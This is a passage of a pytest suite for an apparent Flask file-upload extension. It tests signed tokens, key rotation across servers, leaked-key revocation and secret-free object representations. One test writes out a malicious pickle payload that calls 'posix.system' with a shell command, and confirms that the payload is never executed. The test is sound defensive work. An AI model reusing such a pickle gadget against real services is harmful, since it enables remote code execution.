        token = given(browser).form().token
        payload = json.loads(base64.urlsafe_b64decode(token.partition(".")[0] + "=="))
        version, nonce, binding, [claim], bundle = payload
        assert (version, bundle) == (1, 0)
        assert len(nonce) == 8
        assert [len(part) for part in binding] == [18, 22, 22]
        relpath, field, filename, kind, size, digest, at = claim
        assert relpath.endswith("/leo.png")
        assert (field, filename, kind, size) == ("avatar", "leo.png", "image/png", len(LEO.data))
        assert base64.urlsafe_b64decode(digest + "=") == hashlib.sha256(LEO.data).digest()
        assert isinstance(at, int)
        assert "ada@" not in str(payload)


@pytest.mark.parametrize("kind", ["json", "text", "asked"])
def test_t45_a_token_is_in_json_only_when_the_app_asks_for_it(kind: str) -> None:
    """Nothing is put into an answer that is no page; ``handoff.token()`` is the app's own word."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/json", lambda: jsonify(ok=bool(request.files), html=form("/show")))
        answer(
            app,
            "/text",
            lambda: app.response_class(str(request.files) + form("/show"), mimetype="text/plain"),
        )
        answer(app, "/asked", lambda: jsonify(token=handoff.token()))

    with fleet_of(build) as fleet:
        seen = Browser(fleet).post(f"/{kind}", [("avatar", LEO)])
        assert ("Set-Cookie" in seen.headers) == (kind == "asked")
        assert "_s3handoff" not in seen.text
        assert "Access-Control-Allow-Origin" not in seen.headers
        if kind == "asked":
            assert seen.headers["Cache-Control"] == "private, no-cache"


# --- keys, server by server -----------------------------------------------------------------------

OLD, NEW, OTHER = "old-" + "k" * 32, "new-" + "k" * 32, "leaked-" + "k" * 32
STEPS = {
    "T42-before": [[OLD], [OLD], [OLD]],
    "T42-first-all-learn-the-new-one": [[OLD], [NEW, OLD], [NEW, OLD]],
    "T42-known-everywhere": [[NEW, OLD], [NEW, OLD], [NEW, OLD]],
    "T42-then-it-signs": [[NEW, OLD], [OLD, NEW], [OLD, NEW]],
    "T42-signs-everywhere": [[OLD, NEW], [OLD, NEW], [OLD, NEW]],
    "T42-last-the-old-one-goes": [[OLD, NEW], [NEW], [NEW]],
    "T42-after": [[NEW], [NEW], [NEW]],
}


def mixed(keys: list[list[str]], *, flask_style: bool = False) -> Fleet:
    """Return servers each with its own keys, newest last."""
    own = iter(keys)

    def create_app(config: dict[str, Any]) -> Flask:
        app = Flask(__name__)
        app.config.from_mapping(config)
        *fallbacks, newest = next(own)
        if flask_style:
            app.config.update(SECRET_KEY=newest, SECRET_KEY_FALLBACKS=fallbacks)
        else:
            app.config["S3HANDOFF_SECRET_KEY"] = [*fallbacks, newest]
        site(app, S3Handoff(app))
        return app

    return Fleet(create_app)


@pytest.mark.parametrize("flask_style", [False, True], ids=["own-key", "flasks-key"])
@pytest.mark.parametrize("step", STEPS)
def test_a_key_is_rolled_out_in_three_steps(step: str, flask_style: bool) -> None:
    """All learn it, then it signs, then the old one goes: at no moment does a server refuse another's."""
    with mixed(STEPS[step], flask_style=flask_style) as fleet:
        browser = Browser(fleet)
        seen = given(browser)
        for _ in range(6):  # each server mints, and each reads what another has minted
            seen = browser.submit(seen)
            assert line_of(LEO) in seen.text


def test_t42_a_key_that_signs_before_all_know_it_is_refused_and_said() -> None:
    """The wrong order: a server that has only the old key cannot read what the new one signs."""
    with mixed([[OLD, NEW], [OLD], [OLD]]) as fleet:
        browser = Browser(fleet)
        assert "codes forged" in browser.submit(given(browser)).text


def test_t42_a_key_taken_away_takes_its_tokens_with_it() -> None:
    """After a leak: drop the key, and nothing that was signed with it is believed, cookie or not."""
    with mixed([[OTHER], [OTHER], [OTHER]]) as before:
        browser = Browser(before)
        token = given(browser).form().token
        cookies = "; ".join(f"{c.key}={c.value}" for c in browser._jar.values())
        with mixed([[NEW], [NEW], [NEW]]) as after:
            seen = sending(after, cookies).post("/show", [("_s3handoff", token)])
            assert "codes forged" in seen.text
            assert count(after) == 0


def test_t33_a_record_that_was_tampered_with_is_data_and_nothing_more(tmp_path: Path) -> None:
    """What lies beside a file is JSON: bytes of a pickle are a damaged record, and run nothing."""
    marker = tmp_path / "ran"
    bomb = f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode()

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/put", lambda: handoff.put(b"x", "users/leo.png"))
        answer(app, "/open", lambda: handoff.open("users/leo.png").read())

    folder = tmp_path / "store"
    with fleet_of(build, store=f"dir:{folder}") as fleet:
        browser = Browser(fleet)
        assert browser.open("/put").status == 200
        (record,) = folder.rglob("*.json")
        record.write_bytes(bomb)
        assert browser.open("/open").status == 502
    assert not marker.exists()


def test_t38_no_representation_tells_a_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """What a debugger, an error tracker or ``print`` shows of our objects: no key, cookie or token."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "sentinel-of-the-secret-access-key")
    monkeypatch.setenv("AWS_SESSION_TOKEN", "sentinel-of-the-session-token")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKSENTINEL")
    shown: list[str] = []

    def build(app: Flask, handoff: S3Handoff) -> None:
        site(app, handoff)

        @app.post("/look")
        def look() -> str:
            assert request.files["avatar"]
            exchange = request.environ["s3handoff.exchange"]
            shown.extend(map(repr, [
                handoff, exchange, exchange.visit, exchange.rooms, exchange.rooms.signer, exchange.carriage,
                exchange.carriage.binder, *exchange.files, *exchange.errors, app.extensions["s3handoff"],
                exchange.leaving_cookies(), exchange.carriage.binder.binding(),
            ]))  # fmt: skip
            return page(form("/look"))

    store = S3Store.from_config(
        HandoffConfig.from_mapping({"S3HANDOFF_BUCKET": "acme", "S3HANDOFF_REGION": "eu-west-1"})
    )
    shown += [repr(store), repr(vars(store))]
    with fleet_of(build, SECRET_KEY=SECRET) as fleet:
        browser = Browser(fleet)
        first = browser.post("/look", [("avatar", LEO)])
        browser.submit(first)
        browser.post("/look", [("avatar", LEO), ("_s3handoff", first.form().token[:-3] + "AAA")])
        cookies = [cookie.value for cookie in browser._jar.values()]
    told = "".join(shown)
    assert "leo.png" in told
    for secret in (SECRET, first.form().token, *cookies, "sentinel-of", "AKSENTINEL"):
        assert secret not in told


@pytest.mark.parametrize("on_error", ["raise", "collect"])
def test_i6_the_other_fields_of_a_form_outlive_its_file(on_error: str) -> None:
    """The store has lost the file: the view gets what was typed all the same, and is told what is missing."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(
            app,
            "/add",
            lambda: (request.files["avatar"], page(form("/save", '<input name="name">')))[1],
        )

        @app.post("/save")
        def save() -> str:
            name, file = request.form["name"], request.files.get("avatar")
            try:
                size = str(file and len(file.read()))
            except HandoffError as error:
                size = error.reason
            return page(f"{name}: {size} {told(handoff)}")

    with fleet_of(build, on_error=on_error) as fleet:
        browser = Browser(fleet)
        seen = browser.post("/add", [("avatar", LEO)])
        settled(fleet)
        memory(fleet).delete(memory(fleet).keys()[0])
        answered = browser.submit(seen, name="Leo")
        assert answered.status == 200
        assert f"Leo: {'missing' if on_error == 'raise' else 'None'}" in answered.text
        assert "codes missing" in answered.text
